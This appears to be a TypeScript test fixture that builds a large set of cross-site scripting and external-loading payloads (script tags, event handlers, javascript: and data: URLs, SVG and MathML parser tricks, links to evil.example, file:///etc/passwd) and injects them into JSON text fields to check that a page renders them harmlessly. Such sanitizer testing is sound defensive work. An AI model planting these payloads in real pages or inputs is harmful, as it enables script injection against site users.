/**
 * Texts that try to run a script, to load an external resource, or to break out of their element: as HTML, as Markdown and as
 * URLs. Each ends with a marker, so that a test can count them in the page.
 */

/** Opens a dialog if it runs, which the browser reports. */
const run = 'alert(1)';
const elsewhere = 'https://evil.example/x';

const html: readonly string[] = [
  `<script>${run}</script>`,
  `<ScRiPt >${run}</sCrIpT>`,
  `<script src="${elsewhere}.js"></script>`,
  `<script src=data:text/javascript,${run}></script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `"><script>${run}</script>`,
  `'-${run}-'`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `</style><script>${run}</script>`,
  `--><script>${run}</script>`,
  `]]><script>${run}</script>`,
  `<img src=x onerror=${run}>`,
  `<img src="${elsewhere}.png">`,
  `<img/src=x/onerror=${run}//`,
  `<img src=x onerror="&#97;lert(1)">`,
  `<img srcset="${elsewhere} 1x">`,
  `<image src=x onerror=${run}>`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:${run}>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='${run}'/>#x">`,
  `<svg><foreignObject><iframe srcdoc="<script>${run}</script>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  `<math href="javascript:${run}">x</math>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<iframe src="${elsewhere}"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="${elsewhere}">`,
  `<video src=x onerror=${run}></video>`,
  `<video poster="${elsewhere}"></video>`,
  `<audio src="${elsewhere}" autoplay></audio>`,
  `<video><source onerror=${run}></video>`,
  `<body onload=${run}>`,
  `<details open ontoggle=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<div style="animation:x 1s" onanimationstart=${run}>`,
  `<div style="background:url(${elsewhere})">x</div>`,
  `<style>@import "${elsewhere}.css";</style>`,
  `<style>*{background:url(${elsewhere})}</style>`,
  `<link rel=stylesheet href="${elsewhere}.css">`,
  `<link rel=prefetch href="${elsewhere}">`,
  `<link rel=dns-prefetch href="//evil.example">`,
  `<meta http-equiv=refresh content="0;url=${elsewhere}">`,
  `<base href="https://evil.example/">`,
  `<form action="${elsewhere}"><button>x</button></form>`,
  `<form id=x></form><button form=x formaction="javascript:${run}">x</button>`,
  `<a href="javascript:${run}">x</a>`,
  `<a href=" &#14; javascript:${run}">x</a>`,
  `<a href="java\tscript:${run}">x</a>`,
  `<a href="${elsewhere}" ping="${elsewhere}">x</a>`,
  `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<xmp><p title="</xmp><svg/onload=${run}>">`,
  `<isindex action=javascript:${run} type=image>`,
  `<portal src="${elsewhere}">`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `<%= ${run} %>`,
  `\u2028<script>${run}</script>`,
  `\uFF1Cscript\uFF1E${run}\uFF1C/script\uFF1E`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#x3c;script&#x3e;${run}`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `\u202E<script>${run}</script>`,
];

const schemes: readonly string[] = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\nscript:${run}`,
  `&#106;avascript:${run}`,
  `&#x6A&#x61&#x76&#x61script:${run}`,
  `javascript&colon;${run}`,
  `%6Aavascript:${run}`,
  `\u0001javascript:${run}`,
  ` javascript:${run}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${run}>`,
  `blob:${elsewhere}`,
  `file:///etc/passwd`,
  `//evil.example/x`,
  elsewhere,
  `view-source:${elsewhere}`,
  `feed:javascript:${run}`,
  `http://javascript:${run}@evil.example`,
];

/** Places for a URL in Markdown. */
const linked: readonly ((address: string) => string)[] = [
  (address) => `[x](${address})`,
  (address) => `[x](<${address}>)`,
  (address) => `[x](${address} "title")`,
  (address) => `![x](${address})`,
  (address) => `![x](${address} "&quot; onerror=${run}")`,
  (address) => `<${address}>`,
  (address) => `[x][r]\n\n[r]: ${address}`,
  (address) => `![x][r]\n\n[r]: ${address}`,
  (address) => `[![x](${address})](${address})`,
  (address) => `[x](${address.replaceAll(':', '\\:')})`,
  (address) => `x[^n]\n\n[^n]: [y](${address})`,
  (address) => `| a |\n|---|\n| [x](${address}) |`,
  (address) => address,
];

/** Markdown structures that can contain HTML. */
const placed: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `> ${payload}`,
  (payload) => `- ${payload}`,
  (payload) => `1. ${payload}`,
  (payload) => `# ${payload}`,
  (payload) => `**${payload}**`,
  (payload) => `\`${payload}\``,
  (payload) => `\`\`\`html\n${payload}\n\`\`\``,
  (payload) => `    ${payload}`,
  (payload) => `~~${payload}~~`,
  (payload) => `| a |\n|---|\n| ${payload} |`,
  (payload) => `[${payload}](https://example.test)`,
  (payload) => `- [ ] ${payload}`,
  (payload) => `<div>\n\n${payload}\n\n</div>`,
  (payload) => `\\${payload}`,
  (payload) => `a\n${payload}\n===`,
];

const everyText: readonly string[] = [
  ...html.flatMap((payload) => placed.map((place) => place(payload))),
  ...schemes.flatMap((address) => linked.map((link) => link(address))),
];

export const markers = /mk\d+km/g;

/** Returns the texts in turn. The seed decides the start. */
export function hostileTexts(seed: number): () => string {
  let count = 0;
  // Coprime to the number of forms, so that neighbours differ and each form comes once before any repeats.
  const stride = 7_919;
  return () => {
    count += 1;
    const text = everyText[(seed + count * stride) % everyText.length] ?? '';
    // A document contains several texts, so each definition needs its own name.
    return `${text.replaceAll('[r]', `[r${count}]`).replaceAll('[^n]', `[^n${count}]`)} mk${count}km`;
  };
}

/** Fields with people's text, or with text that is shown unchanged. */
const textKeys =
  /^(?:title|name|firstName|lastName|label|description|summary|body|text|question|answer|subTitle|help|city|role|originalFileName|.*Label|.*Name)$/;
/** Fields that the page calculates with. */
const computedKeys = /date|zone|url|link|email|id$|type|status|key|code|absoluteFileName|relativeFileName|contentType|pattern|locale/i;

/** Texts of at least this length are written in paragraphs. */
const longText = 60;
const paragraphs = 12;

/** The same JSON with hostile texts. Several replace a long one. */
export function withHostileTexts(json: unknown, next: () => string, key = ''): unknown {
  if (Array.isArray(json)) return json.map((item) => withHostileTexts(item, next, key));
  if (typeof json === 'object' && json !== null)
    return Object.fromEntries(Object.entries(json).map(([name, value]) => [name, withHostileTexts(value, next, name)]));
  if (typeof json !== 'string' || computedKeys.test(key)) return json;
  if (!textKeys.test(key) && !/\S\s\S/.test(json)) return json;
  return json.length < longText ? next() : Array.from({ length: paragraphs }, next).join('\n\n');
}
